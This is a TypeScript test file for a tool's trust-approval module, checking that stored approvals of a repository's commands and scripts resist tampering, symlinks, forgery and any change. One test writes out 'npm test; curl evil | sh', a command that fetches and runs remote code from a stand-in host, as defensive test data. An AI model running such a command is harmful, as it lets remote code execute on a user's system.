import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Surface, SurfaceEntry } from "./core/trust.ts";
import {
  grantTrust,
  notOurs,
  revokeTrust,
  surfaceHash,
  surfaceOf,
  type TrustPlace,
  type TrustState,
  trustedCommands,
  trustFolder,
  trustState,
} from "./trust.ts";

let home: string;
let place: TrustPlace;

beforeEach(() => {
  home = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "autodev-trust-")));
  place = { root: path.join(home, "repo"), folder: path.join(home, "config", "autodev", "trust") };
  fs.mkdirSync(place.root);
});
afterEach(() => fs.rmSync(home, { recursive: true, force: true }));

const gate: SurfaceEntry = { kind: "gate", name: "test", text: "npm test" };
const surface: Surface = [
  gate,
  { kind: "setup", name: "install", text: "npm ci" },
  { kind: "script", name: "package.json#scripts", text: '{\n  "test": "vitest — ünïcode 🎉"\n}\n' },
];
const how = { by: "ada", at: "2026-01-01T00:00:00Z" };

const stateOf = (of: Surface = surface, at = place): TrustState => {
  const state = trustState(at, of);
  if (!state.ok) throw new Error(state.failure.message);
  return state.value;
};
const grant = async (of: Surface = surface, at = place): Promise<void> => {
  expect(await grantTrust(at, of, how)).toEqual({ ok: true, value: undefined });
};
const approvalFile = (): string => {
  const [name] = fs.readdirSync(place.folder);
  return path.join(place.folder, name ?? "");
};
const failureOf = (result: ReturnType<typeof trustState>): string =>
  result.ok ? "none" : `${result.failure.code}: ${result.failure.message}`;

describe("the state of trust", () => {
  it("is unknown at first, and looking leaves nothing behind", () => {
    expect(stateOf()).toMatchObject({ is: "unknown", hash: surfaceHash(surface) });
    expect(fs.readdirSync(home)).toEqual(["repo"]);
  });

  it("is trusted once granted, whatever the order, until it is revoked", async () => {
    await grant();
    expect(stateOf()).toEqual({ is: "trusted", hash: surfaceHash(surface) });
    expect(stateOf([...surface].reverse()).is).toBe("trusted");
    expect(await revokeTrust(place)).toEqual({ ok: true, value: true });
    expect(await revokeTrust(place)).toEqual({ ok: true, value: false });
    expect(stateOf().is).toBe("unknown");
  });

  it("is kept for us alone, outside the repository, and nothing else stays there", async () => {
    await grant();
    expect(fs.statSync(place.folder).mode & 0o777).toBe(0o700);
    expect(fs.statSync(approvalFile()).mode & 0o777).toBe(0o600);
    expect(fs.readdirSync(place.folder).length).toBe(1);
    expect(fs.readdirSync(place.root)).toEqual([]);
    expect(JSON.parse(fs.readFileSync(approvalFile(), "utf8"))).toEqual({
      version: 1,
      root: place.root,
      hash: surfaceHash(surface),
      surface,
      ...how,
    });
  });

  it("changes with any change, 500 times out of 500, and back", async () => {
    await grant();
    let seed = 11;
    const next = (below: number): number => {
      seed = (seed * 48_271) % 2_147_483_647;
      return seed % below;
    };
    const characters = ["a", " ", "\n", "\r", "\0", "\u200b", "\u0435", '"', "\\", "\ud800"];
    for (let round = 0; round < 500; round++) {
      const at = next(surface.length);
      const field = next(2) === 0 ? "name" : "text";
      const entry = surface[at] as SurfaceEntry;
      const old = entry[field];
      const where = next(old.length);
      const put = characters[next(characters.length)] as string;
      const change = [
        old.slice(0, where) + put + old.slice(where + 1),
        old.slice(0, where) + put + old.slice(where),
        old.slice(0, where) + old.slice(where + 1),
      ][next(3)] as string;
      if (change === old) continue;
      const state = stateOf(surface.with(at, { ...entry, [field]: change }));
      expect(state.is).toBe("changed");
      expect(state.is !== "trusted" && state.difference.length > 0).toBe(true);
    }
    for (const [at] of surface.entries())
      expect(stateOf(surface.toSpliced(at, 1)).is).toBe("changed");
    expect(stateOf([...surface, gate]).is).toBe("changed");
    expect(stateOf().is).toBe("trusted");
  });

  it("shows what has changed since the approval", async () => {
    await grant();
    expect(
      stateOf([{ ...gate, text: "npm test; curl evil | sh" }, ...surface.slice(1)]),
    ).toMatchObject({
      is: "changed",
      difference: ["~ gate test", "    - npm test", "    + npm test; curl evil | sh"],
    });
  });

  it("belongs to the working tree's real path", async () => {
    await grant();
    const link = path.join(home, "link");
    fs.symlinkSync(place.root, link);
    expect(stateOf(surface, { ...place, root: link }).is).toBe("trusted");
    const moved = path.join(home, "moved");
    fs.renameSync(place.root, moved);
    expect(stateOf(surface, { ...place, root: moved }).is).toBe("unknown");
    expect(failureOf(trustState(place, surface))).toMatch(/^disk: /);
  });

  it("is inherited by no crafted pointer to another repository", async () => {
    fs.mkdirSync(path.join(place.root, ".git"));
    await grant();
    const hostile = path.join(home, "hostile");
    fs.mkdirSync(path.join(hostile, ".git"), { recursive: true });
    fs.writeFileSync(path.join(hostile, ".git", "commondir"), path.join(place.root, ".git"));
    expect(stateOf(surface, { ...place, root: hostile }).is).toBe("unknown");
  });

  it("is never a mixture when several grant at once", async () => {
    const surfaces = Array.from({ length: 20 }, (_, at) => [
      { ...gate, text: `${at} `.repeat(20_000 + at) },
    ]);
    const [last] = await Promise.all([
      Promise.all(surfaces.map((each) => grant(each))).then(() => stateOf([])),
      ...Array.from({ length: 50 }, async () => {
        await new Promise((done) => setImmediate(done));
        expect(["unknown", "changed"]).toContain(stateOf([]).is);
      }),
    ]);
    expect(last).toMatchObject({ is: "changed" });
    expect(surfaces.filter((each) => stateOf(each).is === "trusted").length).toBe(1);
    expect(fs.readdirSync(place.folder).length).toBe(1);
  });
});

describe("a damaged approval", () => {
  it("is never trusted, wherever it is cut or garbled", async () => {
    await grant();
    const file = approvalFile();
    const whole = fs.readFileSync(file);
    for (let at = 0; at < whole.length; at++) {
      fs.writeFileSync(file, whole.subarray(0, at));
      // The last byte is a newline, which JSON can do without.
      expect(stateOf().is).toBe(at === whole.length - 1 ? "trusted" : "unknown");
    }
    const fieldsThatCount = whole.indexOf('"by"');
    for (let at = 0; at < fieldsThatCount; at++) {
      const garbled = Buffer.from(whole);
      garbled[at] = (garbled[at] as number) ^ 1;
      fs.writeFileSync(file, garbled);
      const state = stateOf();
      expect(state.is).toBe("unknown");
      expect(state.is !== "trusted" && state.difference[0]).toMatch(/counts for nothing/);
    }
  });

  it.each([
    ["nothing", ""],
    ["garbage", "\0\u{1f4a9}{{{"],
    ["null", "null"],
    ["a list", "[]"],
    ["a newer version", JSON.stringify({ version: 2 })],
  ])("may hold %s", async (_, text) => {
    await grant();
    fs.writeFileSync(approvalFile(), text);
    expect(stateOf()).toMatchObject({ is: "unknown" });
    await grant();
    expect(stateOf().is).toBe("trusted");
  });

  it("is one whose hash is right for us, but not for its own surface", async () => {
    await grant([{ ...gate, text: "evil" }]);
    const approval = JSON.parse(fs.readFileSync(approvalFile(), "utf8")) as object;
    const forged = { ...approval, hash: surfaceHash(surface) };
    fs.writeFileSync(approvalFile(), JSON.stringify(forged));
    expect(stateOf().is).toBe("unknown");
  });

  it("is another folder's, copied", async () => {
    const other = { ...place, root: path.join(home, "other") };
    fs.mkdirSync(other.root);
    await grant();
    const mine = fs.readFileSync(approvalFile());
    await revokeTrust(place);
    await grant(surface, other);
    fs.writeFileSync(approvalFile(), mine);
    expect(stateOf(surface, other)).toMatchObject({ is: "unknown" });
  });

  it("is a link, even to a good approval, and a grant replaces the link, not its target", async () => {
    await grant();
    const file = approvalFile();
    const target = path.join(place.root, "approval.json");
    fs.renameSync(file, target);
    fs.symlinkSync(target, file);
    const state = stateOf();
    expect(state.is !== "trusted" && state.difference[0]).toMatch(/it is a link/);
    const before = fs.readFileSync(target, "utf8");
    await grant([gate]);
    expect(fs.readFileSync(target, "utf8")).toBe(before);
    expect(fs.lstatSync(file).isFile()).toBe(true);
    expect(stateOf([gate]).is).toBe("trusted");
  });

  it("is a folder, or a file that others may write", async () => {
    await grant();
    const file = approvalFile();
    fs.chmodSync(file, 0o666);
    expect(stateOf().is).toBe("unknown");
    fs.rmSync(file);
    fs.mkdirSync(file);
    expect(stateOf().is).toBe("unknown");
    const refused = await grantTrust(place, surface, how);
    expect(refused).toMatchObject({ ok: false, failure: { code: "disk" } });
    expect(fs.readdirSync(place.folder).length).toBe(1);
  });
});

describe("the place of approvals", () => {
  const refused = async (folder: string, why: RegExp): Promise<void> => {
    const at = { ...place, folder };
    expect(failureOf(trustState(at, surface))).toMatch(why);
    expect((await grantTrust(at, surface, how)).ok).toBe(false);
    expect((await revokeTrust(at)).ok).toBe(false);
    expect(trustedCommands(at, surface).ok).toBe(false);
  };

  it("is the user's configuration, which no variable of ours moves", () => {
    expect(trustFolder({ XDG_CONFIG_HOME: "/x" })).toBe(path.join("/x", "autodev", "trust"));
    const standard = path.join(os.homedir(), ".config", "autodev", "trust");
    expect(trustFolder({ AUTODEV_TRUST_DIR: "/x" })).toBe(standard);
    expect(trustFolder({ XDG_CONFIG_HOME: "relative" })).toBe(standard);
    expect(trustFolder({ XDG_CONFIG_HOME: "" })).toBe(standard);
  });

  it("is never inside the repository", async () => {
    await refused(trustFolder({ XDG_CONFIG_HOME: place.root }), /^untrusted: .*inside/);
    await refused(trustFolder({ XDG_CONFIG_HOME: path.join(place.root, ".x") }), /inside/);
    await refused(place.root, /inside/);
    await refused(path.join(home, "x", "..", "repo", "t"), /inside/);
    expect(fs.readdirSync(place.root)).toEqual([]);
  });

  it("is not led into the repository by a link, nor nowhere", async () => {
    fs.mkdirSync(path.join(place.root, "t"), { mode: 0o700 });
    fs.symlinkSync(path.join(place.root, "t"), path.join(home, "link"));
    await refused(path.join(home, "link"), /inside/);
    await refused(path.join(home, "link", "autodev", "trust"), /inside/);
    fs.symlinkSync(path.join(place.root, "later"), path.join(home, "dangling"));
    await refused(path.join(home, "dangling"), /leads nowhere/);
    // The other way round, too: a link in the repository that leads out can be turned by it.
    fs.mkdirSync(path.join(home, "out"));
    fs.symlinkSync(path.join(home, "out"), path.join(place.root, "out"));
    await refused(path.join(place.root, "out"), /inside/);
    // A link elsewhere is the user's own affair.
    fs.symlinkSync(path.join(home, "out"), path.join(home, "config"));
    await grant();
    expect(stateOf().is).toBe("trusted");
  });

  it("is a neighbour with a longer name without being inside", async () => {
    await grant(surface, { ...place, folder: path.join(home, "repo-trust") });
  });

  it("is ours, and nobody else's to write", async () => {
    fs.mkdirSync(place.folder, { recursive: true });
    for (const mode of [0o777, 0o770, 0o702, 0o1777]) {
      fs.chmodSync(place.folder, mode);
      await refused(place.folder, /others may write/);
    }
    expect(notOurs({ uid: 1000, mode: 0o40700 }, 1000)).toBeUndefined();
    expect(notOurs({ uid: 1001, mode: 0o40700 }, 1000)).toMatch(/belongs to user 1001/);
  });

  it.runIf(process.getuid?.() === 0)("is not another user's", async () => {
    await grant();
    fs.chownSync(approvalFile(), 12_345, 12_345);
    expect(stateOf().is).toBe("unknown");
    fs.chownSync(place.folder, 12_345, 12_345);
    await refused(place.folder, /belongs to user 12345/);
  });

  it("is a folder", async () => {
    fs.writeFileSync(path.join(home, "file"), "");
    await refused(path.join(home, "file"), /not a folder/);
    await refused(path.join(home, "file", "trust"), /^(?:disk|untrusted): /);
  });
});

describe("the commands of a surface", () => {
  it("are to be had when it is trusted, and only its own", async () => {
    await grant();
    const commands = trustedCommands(place, surface);
    if (!commands.ok) throw new Error(commands.failure.message);
    const { command } = commands.value;
    expect(command({ ...gate }).shell).toBe("npm test");
    for (const strange of [
      { ...gate, text: "npm test " },
      { ...gate, name: "x" },
      { ...gate, kind: "setup" as const },
    ]) {
      expect(() => command(strange)).toThrow(/no command of the approved surface/);
    }
    // A script's text is approved as a definition, not as something to run in a shell.
    expect(() => command(surface[2] as SurfaceEntry)).toThrow(/no command/);
  });

  it("do not change with the list they were taken from", async () => {
    await grant();
    const mine = surface.map((each) => ({ ...each }));
    const commands = trustedCommands(place, mine);
    if (!commands.ok) throw new Error(commands.failure.message);
    (mine[0] as { text: string }).text = "evil";
    expect(() => commands.value.command(mine[0] as SurfaceEntry)).toThrow(/no command/);
  });

  it("are refused otherwise, with the difference and a way out", async () => {
    expect(trustedCommands(place, surface)).toMatchObject({
      ok: false,
      failure: {
        code: "untrusted",
        hint: "autodev trust",
        details: expect.arrayContaining(["+ gate test: npm test"]),
      },
    });
    await grant([gate]);
    expect(trustedCommands(place, surface)).toMatchObject({
      ok: false,
      failure: { code: "untrusted", message: expect.stringContaining("has changed") },
    });
  });

  it("are to be had for the whole hash on the command line, and for nothing less", () => {
    const hash = surfaceHash(surface);
    const given = (sha256: string): boolean => trustedCommands(place, surface, { sha256 }).ok;
    expect(given(hash)).toBe(true);
    expect(given(hash.toUpperCase())).toBe(true);
    for (const wrong of ["", hash.slice(0, 63), `${hash}0`, ` ${hash}`, "0".repeat(64), "*"]) {
      expect(given(wrong)).toBe(false);
    }
    expect(fs.readdirSync(home)).toEqual(["repo"]);
  });
});

describe("the surface of a tree", () => {
  const command = (text: string): SurfaceEntry[] => [{ kind: "gate", name: "g", text }];
  type Tree = Record<string, string | Uint8Array>;
  const of = (text: string, tree: Tree): Surface =>
    surfaceOf(
      command(text),
      (file) => (Object.hasOwn(tree, file) ? tree[file] : undefined),
      Object.keys(tree),
    );
  const files = (text: string, tree: Tree): string[] =>
    of(text, tree)
      .slice(1)
      .map(({ name }) => name);

  it("is the commands alone where no file defines them", () => {
    expect(of("python -m pytest", { "README.md": "" })).toEqual(command("python -m pytest"));
  });

  it("takes only the scripts of package.json, in one order", () => {
    const tree = (text: string): Tree => ({ "package.json": text });
    const one = of("npm test", tree('{"scripts":{"b":"2","a":"1"},"dependencies":{"x":"1"}}'));
    const other = of(
      "npm test",
      tree('\ufeff{"dependencies":{"x":"2"},\r\n"scripts":{"a":"1","b":"2"}}'),
    );
    expect(other).toEqual(one);
    expect(one[1]).toEqual({
      kind: "script",
      name: "package.json#scripts",
      text: '{\n  "a": "1",\n  "b": "2"\n}\n',
    });
    expect(of("npm test", tree('{"scripts":{"a":"1","b":"3"}}'))).not.toEqual(one);
    expect(of("npm test", tree('{"scripts":{"a":"1","b":"2","__proto__":"x"}}'))).not.toEqual(one);
  });

  it("takes all of a package.json that may mean two things", () => {
    for (const text of [
      '{"scripts":{},"scripts":{"a":"x"}}',
      '{"scr\\u0069pts":{"a":"x"}}',
      '{"scripts":{},}',
    ]) {
      expect(of("npm test", { "package.json": text })[1]?.text).toBe(text);
    }
  });

  it("follows what a package's script, a shell script and a Makefile run, but no program", () => {
    expect(
      files("npm test && make lint", {
        "package.json": JSON.stringify({
          scripts: {
            test: "npm run unit:all",
            "unit:all": "node tools/unit.mjs",
            preunit: "./pre.sh",
            start: "node src/server.js",
            postinstall: "node tools/post.mjs",
          },
        }),
        "tools/unit.mjs": 'import "./helper.mjs"',
        "tools/helper.mjs": "",
        "tools/post.mjs": "",
        "src/server.js": "",
        "pre.sh": '#!/bin/sh\n. "$(dirname "$0")/lib/common.sh"\n. ./pre.sh',
        "lib/common.sh": "sh deep",
        "lib/deep": "true",
        Makefile: "include rules\nlint:\n\t@scripts/lint",
        rules: "x:",
        "scripts/lint": "#!/usr/bin/env node\nrequire('../src/server.js')",
      }),
    ).toEqual([
      "Makefile",
      "lib/common.sh",
      "lib/deep",
      "package.json#scripts",
      "pre.sh",
      "rules",
      "scripts/lint",
      "tools/post.mjs",
      "tools/unit.mjs",
    ]);
  });

  it("finds scripts by pattern, and every workspace's", () => {
    const tree = { "ci/a.sh": "", "ci/b.sh": "", "ci/deep/c.sh": "", "d.sh": "" };
    expect(files("for f in ci/*.sh; do sh $f; done", tree)).toEqual(["ci/a.sh", "ci/b.sh"]);
    const workspaces = {
      "package.json": "{}",
      "packages/a/package.json": '{"scripts":{"test":"sh ../x.sh"}}',
      "packages/x.sh": "",
    };
    expect(files("pnpm -r test", workspaces)).toEqual([
      "packages/a/package.json#scripts",
      "packages/x.sh",
    ]);
  });

  it("is not fooled by a file that is called like a part of another", () => {
    const named = files("npm test; sh ./package.json#scripts", {
      "package.json": '{"scripts":{"test":"x"}}',
      "package.json#scripts": "evil",
    });
    expect(named).toEqual(["./package.json#scripts", "package.json#scripts"]);
  });

  it("changes when a file vanishes, comes, or changes in one byte", () => {
    const bytes = (...values: number[]): Tree => ({ "x.sh": Uint8Array.from(values) });
    const trees: Tree[] = [
      {},
      { "x.sh": "" },
      { "x.sh": "a\n" },
      { "x.sh": "a\r\n" },
      bytes(0xff),
      bytes(0xfe),
      bytes(0xef, 0xbf, 0xbd),
      bytes(0x61, 0),
      { "x.sh": "x".repeat(3_000_000) },
      { "x.sh": `${"x".repeat(2_999_999)}y` },
    ];
    const hashes = trees.map((tree) => surfaceHash(of("sh x.sh", tree)));
    expect(new Set(hashes).size).toBe(trees.length);
    // A text cannot pass for the hash of a file that is no text.
    const text = of("sh x.sh", bytes(0xff))[1]?.text ?? "";
    expect(of("sh x.sh", { "x.sh": text })[1]?.text).not.toBe(text);
  });

  it("keeps the approval small however large a script is", () => {
    const size = JSON.stringify(of("sh x.sh", { "x.sh": "y\n".repeat(5_000_000) })).length;
    expect(size).toBeLessThan(1000);
  });

  it("does not depend on how the tree is read", () => {
    const text = "echo — ünïcode\r\n";
    expect(of("sh x.sh", { "x.sh": Buffer.from(text) })).toEqual(of("sh x.sh", { "x.sh": text }));
  });
});
